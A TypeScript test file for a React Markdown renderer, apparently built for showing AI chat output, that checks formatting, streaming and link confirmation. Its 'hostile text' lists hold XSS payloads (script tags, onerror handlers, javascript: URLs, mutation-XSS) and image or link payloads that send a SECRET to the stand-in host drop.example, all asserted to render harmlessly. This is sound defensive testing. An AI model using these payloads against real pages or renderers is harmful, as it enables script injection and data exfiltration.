// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { Markdown } from '@/components/markdown/markdown';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

function html(text: string, streaming = false): HTMLElement {
  return render(<Markdown text={text} streaming={streaming} />).container;
}

/** Every element name the renderer may ever make. */
const ALLOWED = new Set(
  'div p h3 h4 h5 h6 ul ol li input table thead tbody tr th td pre code blockquote strong em del hr br span button b'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  'class dir start type checked disabled readonly aria-label aria-expanded aria-controls tabindex role scope style id'.split(
    ' ',
  ),
);

function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(ALLOWED).toContain(element.localName);
    for (const attribute of element.attributes) {
      expect(ALLOWED_ATTRIBUTES).toContain(attribute.name);
      if (attribute.name === 'style')
        expect(attribute.value).toMatch(/^text-align: (left|right|center);?$/);
    }
  }
}

describe('what Markdown becomes', () => {
  test('headings, paragraphs, marks and breaks', () => {
    const root = html(
      '# One\n\n##### Five\n\nA **bold**, *soft* and ~~old~~ word with `code`.  \nNext\n\n---\n\n> said',
    );
    expect(root.querySelector('h3')?.textContent).toBe('One');
    expect(root.querySelector('h6')?.textContent).toBe('Five');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('em')?.textContent).toBe('soft');
    expect(root.querySelector('del')?.textContent).toBe('old');
    expect(root.querySelector('p code')?.textContent).toBe('code');
    expect(root.querySelectorAll('br, hr')).toHaveLength(2);
    expect(root.querySelector('blockquote p')?.textContent).toBe('said');
    expectHarmless(root);
  });

  test('lists keep their numbers, and tasks say whether they are done', () => {
    const root = html('3. three\n4. four\n\n- [x] paid\n- [ ] sent\n  - by post');
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
    const boxes = [...root.querySelectorAll('input')];
    expect(boxes.map((box) => [box.checked, box.disabled, box.getAttribute('aria-label')])).toEqual(
      [
        [true, true, 'done'],
        [false, true, 'open'],
      ],
    );
    expect(root.querySelector('li li')?.textContent).toBe('by post');
    expectHarmless(root);
  });

  test('tables keep header, alignment and marks in cells', () => {
    const root = html('| Line | Sum |\n| :-- | --: |\n| 7 | **221.75** |');
    expect(root.querySelectorAll('th[scope=col]')).toHaveLength(2);
    expect(root.querySelector('td:last-child strong')?.textContent).toBe('221.75');
    expect(root.querySelector<HTMLElement>('td:last-child')?.style.textAlign).toBe('right');
    expectHarmless(root);
  });

  test('code is shown as it stands', () => {
    const root = html('```html\n<img src=x onerror=alert(1)> &amp; **no**\n```');
    expect(root.querySelector('pre code')?.textContent).toBe(
      '<img src=x onerror=alert(1)> &amp; **no**',
    );
  });

  test('character references in prose are read, unknown ones stay', () => {
    expect(html('a &lt;b&gt; &amp;amp; &#8364; &#x20ac; &unheard; &#99999999;').textContent).toBe(
      'a <b> &amp; € € &unheard; &#99999999;',
    );
  });
});

describe('hostile text', () => {
  const XSS = [
    '<script>alert(1)</script>',
    'before <img src=x onerror="alert(1)"> after',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<a href="javascript:alert(1)">click</a>',
    '<style>@import url(https://drop.example/a.css)</style>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action=https://drop.example><input name=q><button>Sign in</button></form>',
    '<base href="https://drop.example/">\n<link rel=prefetch href=//drop.example>',
    '<meta http-equiv="refresh" content="0;url=https://drop.example">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&#58;alert(1))',
    '[x](java\u0000script:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](blob:https://a.example/1) [y](file:///etc/passwd) [z](chrome-extension://abc/app.html)',
    '[x](//drop.example/a) [y](/settings) [z](#hash)',
    '![x](javascript:alert(1))',
    '[![x](https://drop.example/p.png)](javascript:alert(1))',
    '`<b onmouseover=alert(1)>`',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;',
    '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
    '- [ ] <img src=x onerror=alert(1)>\n- <script>alert(1)</script>',
    '# <img src=x onerror=alert(1)>\n\n> <svg onload=alert(1)>',
    '[r]\n\n[r]: javascript:alert(1) "\\" onmouseover=alert(1)"',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '<!-- --!> <img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
  ];

  test.each(XSS)('%s makes only harmless elements', (payload) => {
    const opened = vi.spyOn(window, 'open').mockReturnValue(null);
    const root = html(payload);
    expectHarmless(root);
    for (const button of root.querySelectorAll('button')) fireEvent.click(button);
    expect(
      root.querySelectorAll('a, img, script, iframe, svg, form, style, link, meta, base'),
    ).toHaveLength(0);
    expect(opened).not.toHaveBeenCalled();
  });

  test.each(XSS)('%s is harmless while it streams in, letter by letter', (payload) => {
    const view = render(<Markdown text="" streaming />);
    for (let end = 1; end <= payload.length; end += 1) {
      view.rerender(<Markdown text={payload.slice(0, end)} streaming />);
      expectHarmless(view.container);
    }
  });

  const EXFILTRATION = [
    '![logo](https://drop.example/p.png?d=SECRET)',
    '![][img]\n\n[img]: https://drop.example/p.png?d=SECRET',
    '<img src="https://drop.example/?d=SECRET">',
    '[![](https://drop.example/?d=SECRET)](https://drop.example)',
    'https://drop.example/?d=SECRET',
    '<https://drop.example/?d=SECRET>',
    'www.drop.example/?d=SECRET and someone@drop.example',
    '![a](<https://drop.example/?d=SECRET> "t")',
    '<video poster=https://drop.example/?d=SECRET>',
    '<p style="background:url(https://drop.example/?d=SECRET)">',
    '[a]: https://drop.example/?d=SECRET',
  ];

  test.each(EXFILTRATION)('%s loads nothing and offers no bare link', (payload) => {
    const root = html(payload);
    expectHarmless(root);
    const loading =
      '[src], [href], [srcset], [poster], [data], [action], [background], [style*=url]';
    expect(root.querySelectorAll(loading)).toHaveLength(0);
  });

  test('a bare address is text', () => {
    html('see https://drop.example/x and <https://drop.example/y>');
    expect(screen.queryByRole('button')).toBeNull();
  });

  test('an image is its words', () => {
    const text = html(
      '![the chart](https://drop.example/p.png) ![](https://drop.example/q.png)',
    ).textContent;
    expect(text).toBe('[image: the chart] [image]');
  });

  test('characters nobody can see are not shown', () => {
    const hidden = '\u202Egnp.exe\u202C a\u200Bb \u{E0041}\u{E0042}';
    expect(html(`x ${hidden} y &#x202e;z`).textContent).toBe('x gnp.exe ab  y z');
  });
});

describe('nesting without end', () => {
  test.each([
    ['quotes', '>'.repeat(5000)],
    ['lists', `${'- '.repeat(800)}a`],
    ['quotes in lists', '- > '.repeat(400)],
  ])('of %s shows as it was written, and breaks nothing', (_, text) => {
    const { container } = render(<Markdown text={`Before.\n\n${text}`} />);
    expect(container.textContent).toContain(text.trim().slice(0, 50));
    expect(container.querySelectorAll('blockquote, li').length).toBeLessThan(100);
  });

  test('as people write it stays what it is', () => {
    const { container } = render(<Markdown text={`- a\n  - b\n    - c\n      > d`} />);
    expect(container.querySelectorAll('li')).toHaveLength(3);
    expect(container.querySelector('blockquote')?.textContent).toContain('d');
  });
});

describe('a link', () => {
  test('shows its address, asks with the host, and opens only after yes', () => {
    const opened = vi.spyOn(window, 'open').mockReturnValue(null);
    html('[your bank](https://bank.example@evil.example:8443/login?d=1)');
    expect(document.body.textContent).toContain('https://bank.example@evil.example:8443/login?d=1');
    fireEvent.click(screen.getByRole('button', { name: 'your bank' }));
    expect(opened).not.toHaveBeenCalled();
    const question = screen.getByRole('group', { name: 'Open this link' });
    expect(question.querySelector('b')?.textContent).toBe('evil.example:8443');
    expect(question.textContent).toContain('the part before @ is not the site');
    fireEvent.click(screen.getByRole('button', { name: 'Open' }));
    expect(opened).toHaveBeenCalledExactlyOnceWith(
      'https://bank.example@evil.example:8443/login?d=1',
      '_blank',
      'noopener,noreferrer',
    );
    expect(screen.queryByRole('group', { name: 'Open this link' })).toBeNull();
  });

  test('cancel opens nothing', () => {
    const opened = vi.spyOn(window, 'open').mockReturnValue(null);
    html('[docs](https://docs.example/a)');
    fireEvent.click(screen.getByRole('button', { name: 'docs' }));
    fireEvent.click(screen.getByRole('button', { name: 'Cancel' }));
    expect(opened).not.toHaveBeenCalled();
  });

  test('that cannot be opened is words and address', () => {
    const root = html('[click me](javascript:alert(1))');
    expect(root.querySelector('button')).toBeNull();
    expect(root.textContent).toBe('click me (javascript:alert(1))');
  });
});

describe('streaming', () => {
  test('what is open at the end is closed for the time being', () => {
    const root = html('It is **impor', true);
    expect(root.querySelector('strong')?.textContent).toBe('impor');
    expect(html('see [the docs](https://docs.exa', true).textContent).toBe('see the docs');
  });

  test('finished blocks are the same elements after more text came', () => {
    const view = render(<Markdown text={'First **part**.\n\nSecond'} streaming />);
    const words = view.container.querySelector('strong')?.firstChild;
    const spy = vi.fn<MutationCallback>();
    const observer = new MutationObserver(spy);
    const first = view.container.querySelector('p');
    if (!first) throw new Error('no paragraph');
    observer.observe(first, { childList: true, subtree: true, characterData: true });
    view.rerender(<Markdown text={'First **part**.\n\nSecond and more\n\n- third'} streaming />);
    expect(view.container.querySelector('strong')?.firstChild).toBe(words);
    expect(observer.takeRecords()).toHaveLength(0);
    expect(view.container.querySelector('li')?.textContent).toBe('third');
    observer.disconnect();
  });

  test('a definition that comes later turns the words before it into a link', () => {
    const view = render(<Markdown text={'See [docs][d].'} streaming />);
    expect(view.container.querySelector('button')).toBeNull();
    view.rerender(<Markdown text={'See [docs][d].\n\n[d]: https://docs.example/a'} streaming />);
    expect(view.container.querySelector('button')?.textContent).toBe('docs');
  });
});
